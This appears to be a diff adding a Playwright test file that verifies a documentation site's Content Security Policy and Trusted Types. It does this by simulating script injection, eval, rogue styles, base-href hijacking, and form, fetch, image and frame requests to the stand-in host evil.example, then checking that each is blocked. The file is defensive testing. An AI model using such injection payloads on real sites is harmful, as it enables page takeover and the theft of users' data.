@@ -1,0 +1,139 @@
+import { waitForHydration } from '../support/hydration.ts';
+import { expect } from '../support/site.ts';
+import { test } from './watchViolations.ts';
+
+/**
+ * What injected code would try, each in the page itself, and the directive that
+ * stops it. They also show that the other tests here would hear a violation.
+ */
+const attempts: Record<string, [attempt: () => unknown, directive: RegExp]> = {
+  'a script with a text of its own': [
+    () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "taken over"';
+      document.body.append(script);
+    },
+    /^require-trusted-types-for/,
+  ],
+  'a script from elsewhere': [
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/a.js';
+      document.body.append(script);
+    },
+    /^require-trusted-types-for/,
+  ],
+  'markup with a handler': [
+    () => {
+      document.body.innerHTML = '<img src="x" onerror="document.title=1">';
+    },
+    /^require-trusted-types-for/,
+  ],
+  'a text that is run': [
+    () => {
+      // Later, because the tools that start this may do what the page may not.
+      setTimeout(() => {
+        (0, eval)('document.title = "taken over"');
+      });
+    },
+    /^(require-trusted-types-for|script-src)/,
+  ],
+  'a policy of its own': [
+    () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      trustedTypes.createPolicy('evil', {});
+    },
+    /^trusted-types/,
+  ],
+  'a style sheet of its own': [
+    () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { display: none }';
+      document.head.append(style);
+    },
+    /^style-src-elem/,
+  ],
+  'a style attribute': [
+    () => document.body.setAttribute('style', 'display: none'),
+    /^style-src-attr/,
+  ],
+  'another base for all addresses': [
+    () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      document.head.append(base);
+    },
+    /^base-uri/,
+  ],
+  'a form that sends what is typed': [
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    },
+    /^form-action/,
+  ],
+  'a picture that counts readers': [
+    () => {
+      const image = document.createElement('img');
+      image.src = 'https://evil.example/a.png';
+      document.body.append(image);
+    },
+    /^img-src/,
+  ],
+  'a request to another host': [
+    () => void fetch('https://evil.example/').catch(() => undefined),
+    /^connect-src/,
+  ],
+  'a frame': [
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+    /^frame-src/,
+  ],
+  'a plugin': [
+    () => {
+      const plugin = document.createElement('object');
+      plugin.data = '/favicon.svg';
+      document.body.append(plugin);
+    },
+    /^require-trusted-types-for/,
+  ],
+};
+
+test.use({ allowedProblems: { 'refused on purpose': /./ } });
+
+for (const [name, [attempt, directive]] of Object.entries(attempts)) {
+  test(`the policy refuses ${name}`, async ({ page, violations }) => {
+    await page.goto('/guide/start/quick-start');
+    await waitForHydration(page);
+    const reached: string[] = [];
+    await page.route('https://evil.example/**', async route => {
+      reached.push(route.request().url());
+      await route.abort();
+    });
+    // Some of them also throw.
+    await page.evaluate(attempt).catch(() => undefined);
+    await expect
+      .poll(() => violations.map(text => text.split(':')[0]).join())
+      .toMatch(directive);
+    await expect(page).not.toHaveTitle('taken over');
+    expect(reached).toEqual([]);
+  });
+}
+
+test('no other site can show a page in a frame', async ({ page, baseURL }) => {
+  await page.route('https://other.example/', route =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<iframe name="ours" src="${baseURL}/guide/start/quick-start"></iframe>`,
+    }),
+  );
+  await page.goto('https://other.example/');
+  await expect.poll(() => page.frame('ours')?.url()).toMatch(/^chrome-error:/);
+});
